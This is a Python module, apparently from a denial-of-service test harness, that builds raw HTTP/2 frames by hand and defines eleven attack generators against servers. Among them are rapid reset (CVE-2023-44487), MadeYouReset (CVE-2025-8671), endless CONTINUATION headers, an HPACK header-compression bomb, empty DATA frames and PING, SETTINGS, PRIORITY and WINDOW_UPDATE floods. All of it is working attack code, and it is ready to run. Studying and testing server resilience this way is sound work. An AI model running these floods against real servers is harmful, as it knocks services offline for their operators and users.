"""What one host can do over HTTP/2: each attack is a generator of what a connection sends, at first and every second."""

import itertools
import struct

from swarm import Attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW_SIZE = 4
FEW, MANY = 20, 205


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    return bytes([name_index, len(value)]) + value


GET, POST = b"\x82\x86", b"\x83\x86"
LARGE = literal(0x04, b"/large") + literal(0x01, b"localhost")
SMALL = literal(0x04, b"/small") + literal(0x01, b"localhost")
START = PREFACE + frame(SETTINGS, 0, 0)
LIVELY = frame(PING, 0, 0, bytes(8))


def blocked_streams():
    """A hundred large responses that may send one byte each; PINGs keep the connection busy."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 1))
    requests = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, GET + LARGE) for n in range(100))
    yield PREFACE + settings + requests
    while True:
        yield LIVELY


def rapid_reset():
    """Requests that are taken back at once (CVE-2023-44487)."""
    yield START
    for first in itertools.count(1, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + LARGE) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in streams
        )


def made_you_reset():
    """Requests that the server must reset, for a window update of nothing (CVE-2025-8671)."""
    yield START
    for first in itertools.count(1, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + LARGE) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
            for stream in streams
        )


def continuation():
    """A head that never ends (CVE-2024-24549 and its kin)."""
    yield START + frame(HEADERS, END_STREAM, 1, GET + SMALL)
    field = literal(0x00, b"x-more") + bytes([100]) + b"m" * 100
    while True:
        yield frame(CONTINUATION, 0, 1, field * 100)


def empty_continuation():
    """A head that never ends, of nothing (CVE-2019-9518)."""
    yield START + frame(HEADERS, END_STREAM, 1, GET + SMALL)
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def header_bomb():
    """Heads of a few hundred bytes that expand to megabytes: one field of the dynamic table, again and again."""
    yield START
    field = b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f\x80\x1e" + b"b" * 3967
    for stream in itertools.count(1, 2):
        bomb = (field if stream == 1 else b"") + b"\xbe" * 2000
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + SMALL + bomb)


def empty_data():
    """A body of empty frames (CVE-2019-9518)."""
    yield START + frame(HEADERS, END_HEADERS, 1, POST + SMALL)
    while True:
        yield frame(DATA, 0, 1) * 1000


def flood(*frames):
    def attack():
        yield START
        while True:
            yield b"".join(frames) * 1000

    return attack


ATTACKS = {
    "blocked-streams": Attack(2, blocked_streams, MANY),
    "rapid-reset": Attack(2, rapid_reset, FEW),
    "made-you-reset": Attack(2, made_you_reset, FEW),
    "continuation": Attack(2, continuation, FEW),
    "empty-continuation": Attack(2, empty_continuation, FEW),
    "header-bomb": Attack(2, header_bomb, FEW),
    "empty-data": Attack(2, empty_data, FEW),
    "ping-flood": Attack(2, flood(LIVELY), FEW),
    "settings-flood": Attack(2, flood(frame(SETTINGS, 0, 0)), FEW),
    "priority-flood": Attack(2, flood(frame(PRIORITY, 0, 1, bytes(5))), FEW),
    "window-update-flood": Attack(2, flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))), FEW),
}
